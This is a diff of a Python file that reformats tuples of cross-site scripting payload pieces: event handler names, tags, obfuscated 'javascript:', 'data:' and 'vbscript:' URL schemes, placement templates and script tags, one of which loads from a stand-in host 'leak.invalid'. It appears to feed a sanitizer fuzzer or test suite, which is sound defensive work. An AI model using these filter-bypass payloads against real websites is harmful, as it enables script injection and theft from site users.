@@ -13,16 +13,41 @@ _HANDLERS = (
     "ondrag ondrop onwheel oncontextmenu onplay oncanplay onended onvolumechange onpageshow onhashchange onmessage "
     "onbeforeunload onunload onselect oninvalid onreset oncopy onauxclick oncontentvisibilityautostatechange"
 )
-_TAGS = ("img src=x", "svg", "body", "input autofocus", "video src=x", "details open", "iframe src=about:blank", "marquee")
+_TAGS = (
+    "img src=x",
+    "svg",
+    "body",
+    "input autofocus",
+    "video src=x",
+    "details open",
+    "iframe src=about:blank",
+    "marquee",
+)
 _SCHEMES = (
-    "javascript:{p}", "JaVaScRiPt:{p}", " javascript:{p}", "\tjava\nscript:{p}", "java&#115;cript:{p}", "&#x6A;avascript:{p}",
-    "javascript&colon;{p}", "javascript://%0a{p}", "vbscript:msgbox(1)", "data:text/html,<script>{p}</script>",
-    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{p}'/>",
-    "blob:http://leak.invalid/x", "view-source:javascript:{p}", "feed:javascript:{p}", "\x01javascript:{p}",
+    "javascript:{p}",
+    "JaVaScRiPt:{p}",
+    " javascript:{p}",
+    "\tjava\nscript:{p}",
+    "java&#115;cript:{p}",
+    "&#x6A;avascript:{p}",
+    "javascript&colon;{p}",
+    "javascript://%0a{p}",
+    "vbscript:msgbox(1)",
+    "data:text/html,<script>{p}</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{p}'/>",
+    "blob:http://leak.invalid/x",
+    "view-source:javascript:{p}",
+    "feed:javascript:{p}",
+    "\x01javascript:{p}",
 )
 _PLACES = (
-    "<a href=\"{u}\">a</a>", "<iframe src=\"{u}\"></iframe>", "<form action=\"{u}\"><button>b</button></form>",
-    "<button formaction=\"{u}\">b</button>", "<object data=\"{u}\"></object>", "<embed src=\"{u}\">",
+    '<a href="{u}">a</a>',
+    '<iframe src="{u}"></iframe>',
+    '<form action="{u}"><button>b</button></form>',
+    '<button formaction="{u}">b</button>',
+    '<object data="{u}"></object>',
+    '<embed src="{u}">',
 )
 _WHOLE = (
     "<script>{p}</script>", "<ScRiPt>{p}</sCrIpT>", "<script src=http://leak.invalid/x.js></script>",
